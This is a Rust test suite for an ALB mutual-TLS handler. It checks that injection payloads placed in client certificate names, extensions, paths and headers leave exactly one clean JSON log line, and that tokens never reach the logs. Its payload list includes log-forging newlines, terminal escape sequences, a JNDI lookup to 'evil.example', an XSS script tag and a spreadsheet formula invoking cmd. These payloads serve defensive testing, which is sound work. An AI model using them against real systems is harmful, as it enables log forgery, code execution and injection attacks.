//! Input of clients cannot break a record, or the terminal of its reader.

use alb_mtls_tests::{Clients, Function, certificate_headers, event, header_of};
use local_alb::HeaderMode;
use serde_json::Value;
use test_pki::x509_cert::spki::der::Decode;
use test_pki::{Certificate, CertificateBuilder, Credential, Criticality};

use alb_mtls_tests::respond;

/// Names that have broken logs of other programs.
const NAMES: &[(&str, &str)] = &[
    ("a line feed", "a\nlevel=INFO decision=allowed"),
    ("a carriage return", "a\r{\"decision\":\"allowed\"}"),
    ("an escape sequence", "\u{1b}[2J\u{1b}[31mroot\u{7}"),
    ("an 8-bit escape sequence", "\u{9b}2J"),
    ("NUL", "admin\0.example"),
    ("DEL", "a\u{7f}b"),
    ("a quote and a brace", "\",\"decision\":\"allowed\"}{\""),
    ("backslashes", "\\\\\\\"\\u0041"),
    ("bidi controls", "\u{202e}gpj.\u{2066}exe\u{2069}"),
    ("line and paragraph separators", "a\u{2028}b\u{2029}c\u{85}d"),
    ("invisible characters", "adm\u{200b}in\u{feff}\u{e0041}"),
    ("a look-up", "${jndi:ldap://evil.example/a}"),
    ("markup", "<script>alert(1)</script>"),
    ("a formula", "=cmd|' /C calc'!A0"),
    ("beyond the basic plane", "\u{1f600}\u{10ffff}"),
];

/// Returns the line with the record that the function wrote since, as it stands in the log. Every
/// other line is JSON too: a record that was broken in two would leave one that is not.
async fn line_of(function: &Function) -> String {
    loop {
        let mut records = Vec::new();
        for line in function.log() {
            assert!(serde_json::from_str::<Value>(&line).is_ok(), "not JSON: {line}");
            if line.contains("\"message\":\"decision\"") {
                records.push(line);
            }
        }
        assert!(records.len() <= 1, "{records:#?}");
        if let Some(record) = records.pop() {
            return record;
        }
        tokio::task::yield_now().await;
    }
}

fn assert_harmless(what: &str, line: &str) -> Value {
    let visible = |byte: u8| (0x20..0x7f).contains(&byte);
    assert!(line.bytes().all(visible), "{what}: {line:?}");
    let record: Value = serde_json::from_str(line).unwrap_or_else(|error| panic!("{what}: {error}: {line}"));
    assert_eq!(record["message"], "decision", "{what}");
    let members = record.as_object().unwrap();
    let decisions = line.matches("\"decision\":\"allowed\"").count();
    assert_eq!(
        decisions,
        usize::from(members["decision"] == "allowed"),
        "{what}: {line}"
    );
    record
}

/// A client whose common name is this UTF8String, whatever is in it.
fn named(clients: &Clients, name: &str) -> Credential {
    let certificate = clients
        .good
        .certificate()
        .edited(clients.issuing.key(), |tbs| {
            tbs.subject = test_pki::raw::any(&common_name(name))?;
            Ok(())
        })
        .unwrap();
    Credential::new(certificate, clients.good.key().clone())
}

/// `Name` with one commonName (RFC 5280 section 4.1.2.4).
fn common_name(name: &str) -> Vec<u8> {
    let tlv = |tag: u8, content: &[u8]| {
        let length = u32::try_from(content.len()).unwrap().to_be_bytes();
        let mut der = vec![tag];
        match content.len() {
            0..=0x7F => der.push(length[3]),
            0x80..=0xFF => der.extend([0x81, length[3]]),
            _ => der.extend([0x82, length[2], length[3]]),
        }
        der.extend(content);
        der
    };
    let attribute = tlv(
        0x30,
        &[&[0x06, 3, 0x55, 4, 3][..], &tlv(0x0C, name.as_bytes())].concat(),
    );
    tlv(0x30, &tlv(0x31, &attribute))
}

#[tokio::test]
async fn names_in_certificates_leave_one_line_of_json() {
    let clients = Clients::new();
    let function = respond(&clients, &[]).await;
    for (what, name) in NAMES {
        let client = named(&clients, name);
        let answer = function
            .get("/", &certificate_headers(clients.header(&client)))
            .await;
        let record = assert_harmless(what, &line_of(&function).await);
        // Refused or shown in full, but never shown as something else.
        match answer.status {
            200 => {
                let subject = record["client"]["subject"].as_str().unwrap();
                let letters =
                    |text: &str| -> String { text.chars().filter(|c| c.is_alphanumeric()).collect() };
                assert!(letters(subject).ends_with(&letters(name)), "{what}: {subject}");
            }
            401 => assert_eq!(record["detail"], "name_unrepresentable", "{what}: {record}"),
            status => panic!("{what}: {status}"),
        }
    }
}

#[tokio::test]
async fn extensions_of_certificates_leave_one_line_of_json() {
    let clients = Clients::new();
    let function = respond(&clients, &[("MTLS_EXTENSIONS", "device_id=1.3.6.1.4.1.99999.1")]).await;
    for (what, text) in NAMES {
        for raw in [false, true] {
            let string = [&[0x0C, u8::try_from(text.len()).unwrap()], text.as_bytes()].concat();
            let value = if raw { text.as_bytes() } else { &string };
            let client = CertificateBuilder::client("CN=device").extension(
                "1.3.6.1.4.1.99999.1",
                Criticality::NotCritical,
                value,
            );
            let client = clients.issue(client);
            let answer = function
                .get("/", &certificate_headers(clients.header(&client)))
                .await;
            assert_eq!(answer.status, 200, "{what}");
            let record = assert_harmless(what, &line_of(&function).await);
            let shown = &record["client"]["extensions"]["device_id"];
            // The text itself or all octets, and nothing between.
            let octets: String = value.iter().map(|octet| format!("{octet:02x}")).collect();
            let is_text = !raw && shown == text && !text.contains(['\0', '\n', '\r', '\u{202e}']);
            assert!(is_text || *shown == format!("#{octets}"), "{what}: {record}");
            assert_eq!(answer.body_json()["client"]["extensions"]["device_id"], *shown);
        }
    }
}

#[tokio::test]
async fn names_of_issuers_that_nobody_vouches_for_leave_one_line_of_json() {
    let clients = Clients::new();
    let function = respond(&clients, &[]).await;
    for (what, name) in NAMES {
        let issuer = clients
            .good
            .certificate()
            .edited(clients.issuing.key(), |tbs| {
                tbs.issuer = test_pki::raw::any(&common_name(name))?;
                Ok(())
            })
            .unwrap();
        let client = Credential::new(issuer, clients.good.key().clone());
        let answer = function
            .get("/", &certificate_headers(header_of([&client])))
            .await;
        assert_eq!(answer.status, 401, "{what}");
        assert_harmless(what, &line_of(&function).await);
    }
}

#[tokio::test]
async fn a_subject_of_64_kilobytes_leaves_one_line_of_json() {
    let clients = Clients::new();
    let function = respond(&clients, &[("MTLS_MAX_HEADER", "65536")]).await;
    // What is left of the header's 64 KiB after base64 and percent-encoding, and more than that.
    for (length, statuses) in [(40_000, [200, 200]), (64_000, [401, 401])] {
        for (name, status) in ["x".repeat(length), "\u{202e}".repeat(length / 3)]
            .iter()
            .zip(statuses)
        {
            let answer = function
                .get(
                    "/",
                    &certificate_headers(header_of([&named(&clients, name), &clients.issuing])),
                )
                .await;
            let line = line_of(&function).await;
            let record = assert_harmless("64 KB", &line);
            assert_eq!(answer.status, status, "{}", record["detail"]);
            // CloudWatch takes events of up to 1 MiB, and older tools up to 256 KiB.
            assert!(line.len() < 262_144, "{}", line.len());
        }
    }
}

#[tokio::test]
async fn what_is_around_the_certificate_leaves_one_line_of_json() {
    let clients = Clients::new();
    let function = respond(&clients, &[]).await;
    for (what, text) in NAMES {
        let escaped: String = text.bytes().map(|byte| format!("%{byte:02X}")).collect();
        let mut headers = clients.good_headers();
        headers.retain(|(name, _)| name != "x-amzn-trace-id");
        let trace: String = text.chars().filter(|character| !character.is_control()).collect();
        headers.push(("x-amzn-trace-id".to_owned(), trace));
        let event = event("GET", &format!("/{escaped}"), &headers, HeaderMode::MultiValue);
        assert_eq!(function.answer(event).await.status, 200, "{what}");
        assert_harmless(what, &line_of(&function).await);

        let raw = serde_json::json!({"requestContext": {"elb": {"targetGroupArn": text}}, "httpMethod": "GET",
            "path": format!("/{text}"), "headers": {"x-amzn-mtls-clientcert": text, "x-amzn-trace-id": text}});
        let answer = function.answer(raw.to_string()).await;
        assert!((400..500).contains(&answer.status), "{what}: {}", answer.status);
        assert_harmless(what, &line_of(&function).await);
    }
}

#[tokio::test]
async fn no_record_holds_a_certificate_or_a_token() {
    let clients = Clients::new();
    let function = respond(&clients, &[]).await;
    let mut headers = clients.good_headers();
    headers.push(("authorization".to_owned(), "Bearer very.secret.token".to_owned()));
    for headers in [headers, certificate_headers(clients.header(&clients.expired()))] {
        function.get("/?token=secret", &headers).await;
        let line = line_of(&function).await;
        let body: String = clients.good.pem().lines().nth(3).unwrap().to_owned();
        for secret in ["BEGIN", "secret", body.as_str()] {
            assert!(!line.contains(secret), "{secret}: {line}");
        }
    }
}

#[test]
fn the_names_are_certificates_that_can_be_read() {
    let clients = Clients::new();
    for (what, name) in NAMES {
        let certificate: Certificate = named(&clients, name).certificate().clone();
        let parsed = test_pki::x509_cert::Certificate::from_der(certificate.der());
        assert!(parsed.is_ok(), "{what}: {parsed:?}");
    }
}
